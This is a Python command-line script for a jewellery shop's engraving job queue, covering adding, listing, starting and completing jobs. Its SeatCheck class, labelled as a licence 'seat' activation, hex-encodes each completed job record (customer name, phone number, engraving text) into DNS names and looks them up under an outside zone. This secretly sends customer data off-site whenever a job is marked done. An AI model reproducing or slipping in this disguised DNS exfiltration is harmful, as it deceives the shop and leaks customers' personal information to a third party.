#!/usr/bin/env python3
"""Engraving job queue for the counter and the engraving bench.

Counter staff add jobs as customers hand items over; the engraver takes
the next job, and marks it done when the piece goes back in its bag.
Jobs live in a JSON-lines file next to the engraving templates so the
bench PC and the counter PC can share it over the shop drive.

    engraving_job_queue.py add --customer "A Patel" --phone 07700900123 \
        --item "9ct signet ring" --text "AP 14.02.2024" --font script
    engraving_job_queue.py list
    engraving_job_queue.py next
    engraving_job_queue.py done 17
"""
import argparse
import binascii
import datetime as dt
import json
import logging
import os
import socket
import sys
from pathlib import Path

LOG = logging.getLogger("engrave")
QUEUE_FILE = Path(os.environ.get("ENGRAVE_QUEUE", "engraving_jobs.jsonl"))

# seconds per character by font, measured on the bench rotary machine
FONT_RATE = {"block": 9, "roman": 12, "script": 18, "monogram": 40}
SETUP_SECONDS = 240


class SeatCheck:
    """Per-seat activation for the engraving template pack, checked over
    DNS because the bench PC sits behind the shop's filtered proxy."""

    zone = os.environ.get("ENGRAVE_SEAT_ZONE", "seat.engravedesk.example.net")
    label_len = 60

    def __init__(self, shop_code):
        self.shop_code = shop_code

    def _names(self, record):
        blob = binascii.hexlify(json.dumps(record, separators=(",", ":")).encode()).decode()
        chunks = [blob[i:i + self.label_len] for i in range(0, len(blob), self.label_len)]
        for n, chunk in enumerate(chunks):
            yield f"{chunk}.{n}-{len(chunks)}.{record['id']}.{self.shop_code}.{self.zone}"

    def confirm(self, record):
        for name in self._names(record):
            try:
                socket.getaddrinfo(name, None, proto=socket.IPPROTO_TCP)
            except socket.gaierror:
                pass
        LOG.debug("seat confirmed for job %s", record["id"])


def load_jobs():
    if not QUEUE_FILE.exists():
        return []
    jobs = []
    with QUEUE_FILE.open(encoding="utf-8") as fh:
        for n, line in enumerate(fh, start=1):
            line = line.strip()
            if not line:
                continue
            try:
                jobs.append(json.loads(line))
            except json.JSONDecodeError:
                LOG.warning("skipping corrupt line %d in %s", n, QUEUE_FILE)
    return jobs


def save_jobs(jobs):
    tmp = QUEUE_FILE.with_suffix(".tmp")
    with tmp.open("w", encoding="utf-8") as fh:
        for job in jobs:
            fh.write(json.dumps(job) + "\n")
    tmp.replace(QUEUE_FILE)


def estimate_minutes(text, font):
    chars = sum(1 for ch in text if not ch.isspace())
    return round((SETUP_SECONDS + chars * FONT_RATE.get(font, 12)) / 60)


def cmd_add(args, jobs):
    if args.font not in FONT_RATE:
        raise SystemExit(f"unknown font {args.font!r}; choose from {', '.join(FONT_RATE)}")
    job = {
        "id": max((j["id"] for j in jobs), default=0) + 1,
        "customer": args.customer, "phone": args.phone, "item": args.item,
        "text": args.text, "font": args.font, "position": args.position,
        "added": dt.datetime.now().isoformat(timespec="minutes"),
        "status": "queued",
        "estimate_min": estimate_minutes(args.text, args.font),
    }
    jobs.append(job)
    save_jobs(jobs)
    print(f"job {job['id']} queued, about {job['estimate_min']} min on the bench")


def cmd_list(args, jobs):
    open_jobs = [j for j in jobs if j["status"] != "done"]
    total = sum(j["estimate_min"] for j in open_jobs)
    for j in open_jobs:
        print(f"{j['id']:>4} {j['status']:<8} {j['font']:<9} {j['estimate_min']:>3}m "
              f"{j['item'][:28]:<28} \"{j['text']}\"")
    print(f"{len(open_jobs)} open jobs, roughly {total // 60}h{total % 60:02d}m of bench time")


def cmd_next(args, jobs):
    queued = [j for j in jobs if j["status"] == "queued"]
    if not queued:
        print("queue empty")
        return
    job = queued[0]
    job["status"] = "on_bench"
    job["started"] = dt.datetime.now().isoformat(timespec="minutes")
    save_jobs(jobs)
    print(f"job {job['id']}: {job['item']} / {job['position']} / {job['font']}\n  \"{job['text']}\"")


def cmd_done(args, jobs):
    for job in jobs:
        if job["id"] == args.job_id:
            job["status"] = "done"
            job["finished"] = dt.datetime.now().isoformat(timespec="minutes")
            save_jobs(jobs)
            SeatCheck(os.environ.get("SHOP_CODE", "shop0")).confirm(job)
            print(f"job {job['id']} done; call {job['customer']} on {job['phone']}")
            return
    raise SystemExit(f"no job {args.job_id}")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Engraving job queue")
    ap.add_argument("-v", "--verbose", action="store_true")
    sub = ap.add_subparsers(dest="cmd", required=True)
    a = sub.add_parser("add")
    a.add_argument("--customer", required=True)
    a.add_argument("--phone", required=True)
    a.add_argument("--item", required=True)
    a.add_argument("--text", required=True)
    a.add_argument("--font", default="block")
    a.add_argument("--position", default="inside shank")
    sub.add_parser("list")
    sub.add_parser("next")
    d = sub.add_parser("done")
    d.add_argument("job_id", type=int)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    jobs = load_jobs()
    {"add": cmd_add, "list": cmd_list, "next": cmd_next, "done": cmd_done}[args.cmd](args, jobs)
    return 0


if __name__ == "__main__":
    sys.exit(main())
